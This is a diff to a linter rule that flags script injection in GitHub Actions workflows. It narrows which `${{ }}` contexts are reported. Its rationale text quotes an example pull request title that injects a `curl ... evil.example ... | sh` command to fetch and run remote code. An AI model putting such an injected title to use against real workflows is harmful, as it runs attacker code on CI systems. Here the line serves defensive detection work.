@@ -32,7 +32,11 @@ export const rule: RuleDefinition = {
     'because they often carry such data one hop removed. `${{ env.NAME }}` is followed to the `env:` that ' +
     'sets it (step, job, then workflow) and rated like the value there; a name set nowhere (likely written to ' +
     '`$GITHUB_ENV` at run time) is low. Contexts that only feed a comparison or a boolean ' +
-    "function (`contains(github.event.issue.title, 'x')`) are not reported.",
+    "function (`contains(github.event.issue.title, 'x')`) are not reported, nor are values GitHub constrains: " +
+    'numbers and ids, SHAs, timestamps, logins (`github.actor`, `*.user.login`: letters, digits and `-`), ' +
+    "repository names, and URLs GitHub builds from them (`artifacts_url`, an issue's `html_url`). URLs that " +
+    "embed a tag name (a release's `html_url`, `tarball_url`) or that a third party writes (`details_url`, " +
+    '`target_url`) are medium.',
   rationale:
     'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runtime sees it. A pull ' +
     'request titled `x"; curl -sSf https://evil.example/x | sh; echo "` therefore becomes part of the script ' +
